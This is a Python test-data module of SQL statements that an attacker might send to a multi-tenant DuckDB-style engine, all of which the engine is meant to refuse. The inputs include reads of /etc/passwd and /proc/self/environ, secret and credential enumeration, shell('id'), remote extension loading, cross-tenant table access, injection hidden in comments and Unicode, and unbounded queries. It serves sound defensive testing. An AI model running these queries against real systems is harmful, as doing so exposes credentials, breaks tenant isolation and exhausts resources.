"""Statements that an attacker might send to the tables' engine; all must be refused before they run.

`t_abc_1` and `t_abc_2` are the caller's own tables, `t_other_1` is one of another tenant.
"""

from __future__ import annotations

FUNCTIONS = (
    "read_csv('/etc/passwd')", "read_csv_auto('x')", "read_text('/etc/passwd')", "read_blob('/etc/passwd')",
    "read_parquet('x')", "read_json('x')", "read_json_auto('x')", "read_json_objects('x')", "read_ndjson('x')",
    "parquet_scan('x')", "parquet_metadata('x')", "parquet_schema('x')", "parquet_file_metadata('x')",
    "parquet_kv_metadata('x')", "parquet_bloom_probe('x', 'a', 1)", "sniff_csv('x')", "glob('/*')", "read_duckdb('x')",
    "sqlite_scan('x', 'y')", "postgres_scan('x', 'y', 'z')", "postgres_query('x', 'y')", "mysql_query('x', 'y')",
    "iceberg_scan('x')", "delta_scan('x')", "st_read('x')", "read_xlsx('x')", "duckdb_settings()", "duckdb_secrets()",
    "duckdb_functions()", "duckdb_tables()", "duckdb_views()", "duckdb_columns()", "duckdb_databases()",
    "duckdb_extensions()", "duckdb_logs()", "duckdb_temporary_files()", "duckdb_memory()", "duckdb_variables()",
    "which_secret('s3://x', 's3')", "pragma_database_size()", "pragma_show('x')", "pragma_table_info('x')",
    "pragma_storage_info('x')", "pragma_version()", "query('SELECT 1')",
    "query_table('x')", "json_execute_serialized_sql('x')",
    "range(1000000000000)", "generate_series(1, 1000000000000)", "repeat_row(1, num_rows=1000000000000)", "unnest([1])",
    "test_all_types()", "summary(x)", "checkpoint()", "force_checkpoint()", "repeat('x', 100)", "arrow_scan(1, 2, 3)",
    "pandas_scan(1)", "python_map_function(1)", "seq_scan('x')", "index_scan('x')", "read_arrow('x')",
    "load_aws_credentials()",
    "shell('id')", "http_get('http://x')", "open_prompt('x')", "scrooge('x')",
)  # fmt: skip
SCALARS = (
    "getenv('HOME')", "current_setting('memory_limit')", "getvariable('x')", "version()", "current_user",
    "current_database()", "current_schema()", "current_query()", "txid_current()", "now()", "current_date",
    "current_timestamp", "random()", "uuid()", "gen_random_uuid()", "setseed(0.5)", "nextval('s')", "currval('s')",
    "error('x')", "sleep_ms(100000)", "repeat('x', 1000000000)", "lpad('x', 1000000000, 'y')", "rpad('x', 9, 'y')",
    "list_value(1)", "range(1000000000)", "generate_series(1, 1000000000)", "regexp_matches('a', '(a+)+$')",
    "regexp_replace('a', 'b', 'c')", "'a' SIMILAR TO 'b'", "md5('x')", "hash('x')", "sha256('x')", "encode('x')",
    "parse_path('x')", "json_serialize_sql('SELECT 1')", "json_deserialize_sql('x')", "write_log('x')",
    "add_parquet_key('a', 'b')", "in_search_path('a', 'b')", "pg_typeof(1)", "typeof(1)", "stats(1)", "alias(1)",
    "list_transform([1], x -> x)", "[x FOR x IN [1]]", "{'a': 1}", "MAP {'a': 1}", "$1", "?", "bit_count(1)",
    "aggregate([1], 'sum')", "string_agg('x', 'y')", "group_concat('x')", "list('x')", "array_agg(1)", "histogram(1)",
    "CAST('x' AS BLOB)", "CAST('x' AS JSON)", "'x'::STRUCT(a INT)", "COLUMNS('.*')", "factorial(20)", "1 ** 1000",
)  # fmt: skip
STATEMENTS = (
    "PRAGMA database_list", "PRAGMA enable_profiling", "SET memory_limit='1TB'", "RESET memory_limit",
    "SET GLOBAL enable_external_access=true", "INSTALL httpfs", "LOAD httpfs", "FORCE INSTALL spatial",
    "ATTACH '/tmp/x.db'", "ATTACH ':memory:' AS y", "DETACH x", "USE x", "COPY t_abc_1 TO '/tmp/x'",
    "COPY (SELECT 1) TO '/dev/stdout'", "COPY t_abc_1 FROM '/etc/passwd'", "EXPORT DATABASE '/tmp/x'",
    "IMPORT DATABASE '/tmp/x'", "CREATE TABLE x AS SELECT 1", "CREATE VIEW x AS SELECT 1", "CREATE MACRO f(x) AS x",
    "CREATE SECRET (TYPE s3)", "CREATE TYPE x AS ENUM ('a')", "CREATE SEQUENCE s", "CREATE SCHEMA s",
    "CREATE TEMP TABLE x (y INT)", "DROP VIEW t_abc_1", "ALTER VIEW t_abc_1 RENAME TO x", "DELETE FROM t_abc_1",
    "INSERT INTO t_abc_1 VALUES (1)", "UPDATE t_abc_1 SET a = 1", "TRUNCATE t_abc_1", "VACUUM", "ANALYZE", "CHECKPOINT",
    "CALL pragma_version()", "EXPLAIN SELECT 1", "EXPLAIN ANALYZE SELECT 1", "DESCRIBE t_abc_1", "SHOW TABLES",
    "SUMMARIZE t_abc_1", "PREPARE p AS SELECT 1", "EXECUTE p", "DEALLOCATE p", "BEGIN", "COMMIT", "VALUES (1)",
    "FROM t_abc_1 SELECT getenv('HOME')", "SELECT 1; SELECT 2", "SELECT 1; DROP VIEW t_abc_1", "", ";", "--", "SELECT",
    "PIVOT t_abc_1 ON a USING sum(b)", "UNPIVOT t_abc_1 ON a INTO NAME n VALUE v", "SELECT * FROM t_abc_1, t_abc_2",
    "SELECT * FROM t_abc_1 CROSS JOIN t_abc_2", "SELECT * FROM t_abc_1 NATURAL JOIN t_abc_2",
    "SELECT * FROM t_abc_1 POSITIONAL JOIN t_abc_2",
    "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r) SELECT * FROM r",
    "SELECT * FROM '/etc/passwd'", "SELECT * FROM \"/etc/passwd\"", "SELECT * FROM 'https://x.invalid/a.csv'",
    "SELECT * FROM 's3://x/y.parquet'", "SELECT * FROM 'x.json'", "SELECT * FROM information_schema.tables",
    "SELECT * FROM sqlite_master", "SELECT * FROM sqlite_schema", "SELECT * FROM pg_catalog.pg_class",
    "SELECT * FROM main.t_abc_1", "SELECT * FROM memory.main.t_abc_1", "SELECT * FROM raw_t_abc_1",
    "SELECT * FROM t_other_1", "SELECT * FROM duckdb_tables", "SELECT * FROM df", "SELECT * FROM VIEWS",
    "SELECT * FROM (VALUES (1)) v", "SELECT * FROM t_abc_1 TABLESAMPLE 10%", "SELECT * INTO x FROM t_abc_1",
    "SELECT * FROM t_abc_1 AT (VERSION => 1)", "SELECT (SELECT a FROM t_other_1)", "SELECT * FROM t_abc_1 FOR UPDATE",
    "SELECT 1 UNION ALL SELECT a FROM t_other_1", "SELECT * EXCLUDE (a) FROM read_csv('x')",
    "SELECT /* */ a FROM t_abc_1 WHERE a = (SELECT content FROM read_text('/etc/passwd'))",
    "SELECT a FROM t_abc_1 QUALIFY getenv('x') = 'y'", "SELECT a FROM t_abc_1 ORDER BY getenv('x')",
    "SELECT a FROM t_abc_1 GROUP BY getenv('x')", "SELECT a FROM t_abc_1 LIMIT (SELECT 1 FROM read_text('x'))",
    "SELECT CASE WHEN 1 = 1 THEN getenv('x') END", "SELECT COALESCE(NULL, current_setting('x'))",
)  # fmt: skip
UNICODE = (
    "SELECT * FROM \uff52ead_csv('x')", "SELECT \u0261etenv('HOME')", "SELECT * FROM t\u200b_other_1",
    "SELECT * FROM \u202et_other_1", "SELECT * FROM T_OTHER_1", "SELECT * FROM \u201ct_other_1\u201d",
    "SELECT\u00a0*\u00a0FROM\u00a0sqlite_master", "SELECT * FROM `/etc/passwd`", "SELECT * FROM [t_other_1]",
    'SELECT * FROM "t_abc_1""; DROP VIEW t_abc_1; --"', 'SELECT * FROM "t_abc_1\u0000"', "SELECT * FROM t_\u0430bc_1",
    "SELECT * FROM U&'\\0074_other_1'", "\ufeffCOPY t_abc_1 TO '/tmp/x'", "SELECT * FROM \"T_OTHER_1\"",
)  # fmt: skip
COMMENTS = (
    "SELECT/**/*/**/FROM/**/read_csv('/etc/passwd')", "SELECT 1 --\n; DROP VIEW t_abc_1",
    "/* SELECT */ DROP VIEW t_abc_1", "SELECT 1 /* /* */ */; ATTACH ':memory:'", "--\nCOPY t_abc_1 TO '/tmp/x'",
    "SELECT * FROM /*t_abc_1*/ t_other_1", "SELECT a FROM t_abc_1 -- \nUNION ALL SELECT a FROM t_other_1",
    "# SELECT\nINSTALL httpfs", "SELECT $$a$$ FROM read_text($$/etc/passwd$$)", "SELECT $x$a$x$, getenv($x$HOME$x$)",
)  # fmt: skip
PREPARED = (
    "PREPARE p AS SELECT * FROM t_abc_1 WHERE a = $1", "EXECUTE p(1)", "EXECUTE p(a := 1)",
    "EXECUTE IMMEDIATE 'SELECT 1'", "SELECT a FROM t_abc_1 WHERE a = $1", "SELECT a FROM t_abc_1 WHERE a = ?",
    "SELECT a FROM t_abc_1 WHERE a = :x", "CREATE OR REPLACE MACRO t_abc_1(a) AS TABLE SELECT 1",
    "CREATE TEMP MACRO m() AS TABLE SELECT * FROM read_csv('x')", "DROP MACRO m", "SELECT m(1)", "SELECT * FROM m()",
    "CREATE FUNCTION f(x) AS x", "SET VARIABLE x = 1", "SET SESSION search_path = 'system'",
    "SET schema = 'pg_catalog'", "SET threads = 64", "SET lock_configuration = false",
)  # fmt: skip
REACHING_OUT = (
    "ATTACH 'postgres:dbname=x' AS pg (TYPE postgres)", "ATTACH 'https://x.invalid/y.db'",
    "ATTACH IF NOT EXISTS '/etc/passwd'", "COPY (SELECT * FROM t_abc_1) TO 's3://x/y' (FORMAT parquet)",
    "COPY FROM DATABASE a TO b", "COPY t_abc_1 TO '/tmp/x.csv' (HEADER)",
    "INSTALL 'https://x.invalid/e.duckdb_extension'", "LOAD '/tmp/e.duckdb_extension'", "UPDATE EXTENSIONS",
    "SELECT * FROM read_csv('https://x.invalid/a.csv')", "SELECT * FROM read_parquet(['a', 'b'])",
    "FROM '/etc/passwd'", "FROM 'in/*'", "SELECT * FROM '/proc/self/environ'", "SELECT * FROM \"in/x.parquet\"",
    "SELECT * FROM '*.parquet'", "SELECT * FROM read_blob('/proc/self/maps')",
    "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')", "SELECT * FROM duckdb_secrets()",
)  # fmt: skip
UNBOUNDED = (
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT MAX(n) FROM r",
    "WITH RECURSIVE t_abc_1 AS (SELECT 1 AS a UNION ALL SELECT a FROM t_abc_1) SELECT * FROM t_abc_1",
    "WITH RECURSIVE r AS (SELECT 1 AS a UNION SELECT a + 1 FROM r) SELECT * FROM r",
    "SELECT * FROM t_abc_1, t_abc_1 AS b, t_abc_1 AS c", "SELECT * FROM t_abc_1 JOIN t_abc_2",
    "SELECT * FROM t_abc_1 ASOF JOIN t_abc_2", "SELECT * FROM t_abc_1, LATERAL (SELECT getenv('x'))",
    "SELECT * FROM t_abc_1, UNNEST([1, 2])", "SELECT UNNEST(RANGE(1000000000))",
    "SELECT a FROM t_abc_1 LIMIT 10 PERCENT", "SELECT " + " + ".join(["1"] * 3000),
    "SELECT * FROM " + "(SELECT * FROM " * 200 + "t_abc_1" + ")" * 200,
    "SELECT a FROM t_abc_1 " + "UNION ALL SELECT a FROM t_abc_1 " * 40, "SELECT a FROM t_abc_1 USING SAMPLE 10 ROWS",
)  # fmt: skip
OTHERS = (
    'SELECT * FROM "t_other_1"', "SELECT * FROM raw_t_other_1", "SELECT * FROM main.raw_t_abc_1",
    "SELECT * FROM temp.t_other_1", "SELECT * FROM system.main.t_other_1", "SELECT * FROM t_abc_3",
    "SELECT a FROM t_abc_1 WHERE a IN (SELECT a FROM t_other_1)", "SELECT a FROM t_abc_1 JOIN t_other_1 USING (a)",
    "WITH p AS (SELECT * FROM t_other_1) SELECT * FROM p", "SELECT EXISTS (SELECT 1 FROM t_other_1)",
    "SELECT a FROM t_abc_1 ORDER BY (SELECT MAX(a) FROM t_other_1)",
    "SELECT a FROM t_abc_1 EXCEPT SELECT a FROM t_other_1",
    "SELECT COUNT(*) FILTER (WHERE a IN (SELECT a FROM t_other_1)) FROM t_abc_1",
)  # fmt: skip
HOSTILE = (
    *(f"SELECT * FROM {one}" for one in FUNCTIONS),
    *(f"SELECT {one} FROM t_abc_1" for one in SCALARS),
    *STATEMENTS,
    *UNICODE,
    *COMMENTS,
    *PREPARED,
    *REACHING_OUT,
    *UNBOUNDED,
    *OTHERS,
)
